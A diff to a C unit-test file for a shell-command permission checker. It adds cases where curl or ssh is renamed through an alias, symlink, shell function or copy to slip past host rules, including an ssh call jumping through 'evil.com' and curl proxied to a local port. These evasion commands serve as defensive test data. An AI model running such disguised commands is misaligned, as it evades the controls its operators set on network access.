@@ -17,7 +17,9 @@
  *   - M1: naming curl anywhere in the call armed every other command's
  *     bundle ("curl URL && bash -ex install.sh", "cp -ax", "grep -rnx",
  *     a JSON issue body with a "curl" label): only the segment's own
- *     programs arm it now.
+ *     programs arm it now; but a name a segment holds as an argument
+ *     ("ln -s $(command -v curl) c", "cp /usr/bin/ssh x") or an alias or
+ *     function defined in the leaf arms every segment of the leaf.
  * Each row stands beside an allowed url.
  */
 #include <criterion/criterion.h>
@@ -219,6 +221,45 @@ Test(rev63_hostarm, m1_another_segment_or_leaf_arms_no_bundle)
         {KT_DX("api.example.com"),
          "{\"url\": \"https://api.example.com/\", \"cmd\": \"git clone https://api.example.com/r "
          "&& rsync -avx build/ dist/\"}",
+         1},
+    };
+    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
+}
+
+Test(rev63_hostarm, m1_a_name_held_as_an_argument_arms_the_leaf)
+{
+    static const kt_row rows[] = {
+        {KT_DX("api.example.com"),
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"alias c=curl; c -sx 127.0.0.1:18222 "
+         "https://api.example.com/\"}",
+         0},
+        {KT_DX("api.example.com"),
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ln -s \\\"$(command -v curl)\\\" c; "
+         "./c -sx 127.0.0.1:18222 https://api.example.com/\"}",
+         0},
+        {KT_DX("api.example.com"),
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ln -s /usr/bin/curl /tmp/c && /tmp/c "
+         "-sx 127.0.0.1:18222 https://api.example.com/\"}",
+         0},
+        {KT_DX("api.example.com"),
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cp /usr/bin/ssh /tmp/x; /tmp/x -o "
+         "'ProxyJump evil.com' h\"}",
+         0},
+        {KT_DX("api.example.com"),
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"c () { curl \\\"$@\\\"; }\\nc -sx "
+         "127.0.0.1:18222 https://api.example.com/\"}",
+         0},
+        {KT_DX("api.example.com"),
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sudo curl https://api.example.com/ && "
+         "cp -ax src.d dst.d\"}",
+         1},
+        {KT_DX("api.example.com"),
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"timeout 10 curl "
+         "https://api.example.com/ && grep -rnx main.py f.txt\"}",
+         1},
+        {KT_DX("api.example.com"),
+         "{\"url\": \"https://api.example.com/\", \"cmd\": \"xargs curl < urls.txt && cp -ax a.d "
+         "b.d\"}",
          1},
     };
     kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
